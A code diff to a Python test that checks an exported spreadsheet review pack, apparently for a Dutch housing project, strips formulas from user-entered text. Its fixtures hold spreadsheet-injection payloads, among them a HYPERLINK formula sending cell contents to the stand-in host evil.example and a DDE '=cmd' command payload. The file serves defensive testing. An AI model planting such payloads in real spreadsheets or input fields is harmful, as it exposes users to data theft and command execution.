@@ -15,6 +15,7 @@ from eet.review.pack import write_pack
 from eet.store.models import Bottleneck
 from eet.entry.schemas import DwellingIn
 from eet.entry.spreadsheet import neutralise
+from eet.entry import living_lab
 
 AS_OF, SINCE = date(2021, 5, 31), date(2021, 1, 15)
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
@@ -33,8 +34,8 @@ def test_pack_xlsx_holds_no_formula_from_user_text(engine, tmp_path):
         services.upsert_dwelling(session, SYSTEM, DwellingIn(
             ref="ZST-0001", municipality="Zeist", site=EVIL, status="location_found",
             status_date=date(2021, 3, 1)))
-        session.add(Bottleneck(title="=cmd|' /C calc'!A0", domain="housing", owner="@owner",
-                               status="open", raised_on=date(2021, 2, 1)))
+        living_lab.save_bottleneck(session, SYSTEM, {"title": "=cmd|' /C calc'!A0", "domain": "housing",
+                                                     "owner": "@owner", "status": "open", "raised_on": date(2021, 2, 1)})
         meeting = decisions.add_meeting(session, SYSTEM, {"held_on": "2021-05-27", "title": "+Mei"})
         decisions.add_decision(session, SYSTEM, {"meeting_id": meeting.id, "topic": "other",
                                                  "decision": "=1+1", "owner": "-Stuurgroep"})
